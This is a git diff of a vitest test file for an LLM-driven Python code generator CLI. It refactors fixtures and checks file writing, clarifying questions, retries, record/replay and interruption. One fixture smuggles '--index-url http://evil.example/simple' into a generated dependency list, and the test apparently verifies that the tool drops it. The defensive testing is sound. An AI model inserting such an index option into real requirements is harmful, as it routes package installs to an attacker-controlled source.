@@ -2,34 +2,16 @@ import { spawn } from 'node:child_process';
 import { mkdtemp, readdir, readFile, rm, writeFile } from 'node:fs/promises';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
-import { PassThrough } from 'node:stream';
 import { afterEach, beforeEach, describe, expect, it } from 'vitest';
-import { main } from '../../src/cli/main.js';
-import type { Analysis, Solution } from '../../src/llm/index.js';
+import type { Solution } from '../../src/llm/index.js';
+import { runCli } from '../helpers/cli.js';
 import { FakeModelServer } from '../helpers/fake-model.js';
+import { MEDIAN_ANALYSIS, MEDIAN_SOLUTION, STATS_PY } from '../helpers/median.js';
 import { makeProject } from '../helpers/project.js';
 
 const API_KEY = 'sk-test-generate-0123456789abcdefghijk';
 
-const ANALYSIS: Analysis = {
-  intent: 'algorithm',
-  title: 'Add a median function',
-  module: 'stats',
-  requirements: ['median of a non-empty list of numbers', 'raises ValueError on an empty list'],
-  assumptions: ['the list is not sorted'],
-  needs_clarification: false,
-  questions: [],
-};
-const STATS = 'def median(values):\n    """Return the median of a non-empty list."""\n    if not values:\n        raise ValueError("empty")\n    ordered = sorted(values)\n    mid = len(ordered) // 2\n    if len(ordered) % 2:\n        return ordered[mid]\n    return (ordered[mid - 1] + ordered[mid]) / 2\n';
-const TESTS = 'import pytest\n\nfrom stats import median\n\n\ndef test_odd():\n    assert median([3, 1, 2]) == 2\n\n\ndef test_even():\n    assert median([4, 1, 2, 3]) == 2.5\n\n\ndef test_empty():\n    with pytest.raises(ValueError):\n        median([])\n';
-const GOOD: Solution = {
-  summary: 'A median function with tests.',
-  files: [
-    { path: 'stats.py', content: STATS, patch: null },
-    { path: 'test_stats.py', content: TESTS, patch: null },
-  ],
-  dependencies: ['PyYAML>=6', 'Requests', '--index-url http://evil.example/simple'],
-};
+const GOOD: Solution = { ...MEDIAN_SOLUTION, dependencies: ['PyYAML>=6', 'Requests', '--index-url http://evil.example/simple'] };
 const WRONG: Solution = { ...GOOD, files: [{ path: 'stats.py', content: 'def median(values):\n    return sorted(values)[len(values) // 2]\n', patch: null }, GOOD.files[1]!] };
 
 const REPO = {
@@ -60,15 +42,8 @@ async function folder(): Promise<string> {
   return dir;
 }
 
-async function code4py(args: string[], env: NodeJS.ProcessEnv = { ...process.env, OPENAI_BASE_URL: server.baseUrl, OPENAI_API_KEY: API_KEY }): Promise<{ code: number; stdout: string; stderr: string }> {
-  const stdout = new PassThrough();
-  const stderr = new PassThrough();
-  let out = '';
-  let err = '';
-  stdout.on('data', (d: Buffer) => (out += d.toString()));
-  stderr.on('data', (d: Buffer) => (err += d.toString()));
-  const code = await main(args, { stdout, stderr, env });
-  return { code, stdout: out, stderr: err };
+function code4py(args: string[], env: NodeJS.ProcessEnv = { ...process.env, OPENAI_BASE_URL: server.baseUrl, OPENAI_API_KEY: API_KEY }) {
+  return runCli(args, env);
 }
 
 /** The folder the summary says the files went to (removed after the test). */
@@ -83,14 +58,14 @@ const MERGED_REQUIREMENTS = 'requests==2.31\nPyYAML>=6\n';
 
 describe('code4py generate on a local checkout', () => {
   it('writes the code, its tests and the requirements to a new folder, prints the pull request and the validation, and exits 0', async () => {
-    server.script('code4py_analysis', ANALYSIS).script('code4py_solution', GOOD);
+    server.script('code4py_analysis', MEDIAN_ANALYSIS).script('code4py_solution', GOOD);
     const checkout = await repo();
     const run = await code4py(['generate', 'Add a median(values) function', '--repo', checkout]);
 
     expect(run.code).toBe(0);
     const out = writtenTo(run.stdout);
     expect((await readdir(out)).sort()).toEqual(['requirements.txt', 'stats.py', 'test_stats.py']);
-    expect(await readFile(join(out, 'stats.py'), 'utf8')).toBe(STATS);
+    expect(await readFile(join(out, 'stats.py'), 'utf8')).toBe(STATS_PY);
     // The solution's dependencies, merged into the checkout's requirements: Requests is already there.
     expect(await readFile(join(out, 'requirements.txt'), 'utf8')).toBe(MERGED_REQUIREMENTS);
     // The checkout itself is untouched.
@@ -125,18 +100,18 @@ describe('code4py generate on a local checkout', () => {
   });
 
   it('applies the change to the checkout itself with --write', async () => {
-    server.script('code4py_analysis', ANALYSIS).script('code4py_solution', GOOD);
+    server.script('code4py_analysis', MEDIAN_ANALYSIS).script('code4py_solution', GOOD);
     const checkout = await repo();
     const run = await code4py(['generate', 'Add a median function', '--repo', checkout, '--write']);
     expect(run.code).toBe(0);
     expect(run.stdout).toContain(`Files written to ${checkout}:`);
     expect(run.stdout).toContain('  replaced  requirements.txt');
-    expect(await readFile(join(checkout, 'stats.py'), 'utf8')).toBe(STATS);
+    expect(await readFile(join(checkout, 'stats.py'), 'utf8')).toBe(STATS_PY);
     expect(await readFile(join(checkout, 'requirements.txt'), 'utf8')).toBe(MERGED_REQUIREMENTS);
   });
 
   it('prints the clarifying questions and exits 1 without writing; --answer goes on with the answer', async () => {
-    const vague = { ...ANALYSIS, needs_clarification: true, questions: ['Mean or median?', 'What about empty lists?'] };
+    const vague = { ...MEDIAN_ANALYSIS, needs_clarification: true, questions: ['Mean or median?', 'What about empty lists?'] };
     server.script('code4py_analysis', vague, vague).script('code4py_solution', GOOD);
     const checkout = await repo();
     const asked = await code4py(['generate', 'Add an average function', '--repo', checkout]);
@@ -153,7 +128,7 @@ describe('code4py generate on a local checkout', () => {
   });
 
   it('exits 1 when no attempt passes, and never replaces files with failing code', async () => {
-    server.script('code4py_analysis', ANALYSIS, ANALYSIS).script('code4py_solution', WRONG, WRONG);
+    server.script('code4py_analysis', MEDIAN_ANALYSIS, MEDIAN_ANALYSIS).script('code4py_solution', WRONG, WRONG);
     const checkout = await repo();
     const out = join(await folder(), 'new');
     const failed = await code4py(['generate', 'Add a median function', '--repo', checkout, '--attempts', '1', '--out', out]);
@@ -171,7 +146,7 @@ describe('code4py generate on a local checkout', () => {
   });
 
   it('reads the task from --issue-file: a title line, then the description', async () => {
-    server.script('code4py_analysis', ANALYSIS).script('code4py_solution', GOOD);
+    server.script('code4py_analysis', MEDIAN_ANALYSIS).script('code4py_solution', GOOD);
     const issue = join(await folder(), 'issue.md');
     await writeFile(issue, '# Median\n\nAdd `median(values)`; raise ValueError on an empty list.\n');
     const run = await code4py(['generate', '--issue-file', issue, '--repo', await repo()]);
@@ -181,7 +156,7 @@ describe('code4py generate on a local checkout', () => {
   });
 
   it('records the exchanges, and replays them with nothing sent', async () => {
-    server.script('code4py_analysis', ANALYSIS).script('code4py_solution', GOOD);
+    server.script('code4py_analysis', MEDIAN_ANALYSIS).script('code4py_solution', GOOD);
     const checkout = await repo();
     const transcript = join(await folder(), 'generate.jsonl');
     const recorded = await code4py(['generate', 'Add a median function', '--repo', checkout, '--record', transcript]);
@@ -191,7 +166,7 @@ describe('code4py generate on a local checkout', () => {
 
     const replayed = await code4py(['generate', 'Add a median function', '--repo', checkout, '--replay', transcript], { ...process.env, OPENAI_API_KEY: '' });
     expect(replayed.code).toBe(0);
-    expect(await readFile(join(writtenTo(replayed.stdout), 'stats.py'), 'utf8')).toBe(STATS);
+    expect(await readFile(join(writtenTo(replayed.stdout), 'stats.py'), 'utf8')).toBe(STATS_PY);
     expect(server.bodies).toHaveLength(2);
 
     const other = await code4py(['generate', 'Add a mode function', '--repo', checkout, '--replay', transcript]);
@@ -203,7 +178,7 @@ describe('code4py generate on a local checkout', () => {
 describe('code4py generate interrupted', () => {
   it('stops the sandbox on Ctrl-C, writes nothing, leaves nothing behind and exits 2', async () => {
     const slow: Solution = { ...GOOD, files: [GOOD.files[0]!, { path: 'test_slow.py', content: 'import time\n\n\ndef test_slow():\n    time.sleep(60)\n', patch: null }] };
-    server.script('code4py_analysis', ANALYSIS).script('code4py_solution', slow);
+    server.script('code4py_analysis', MEDIAN_ANALYSIS).script('code4py_solution', slow);
     const tmp = await folder();
     // The CLI from source, in its own process with its own TMPDIR, so that Ctrl-C is a real SIGINT.
     const child = spawn(process.execPath, ['--import', 'tsx', join('src', 'cli.ts'), 'generate', 'Add a median function', '--repo', await repo()], {
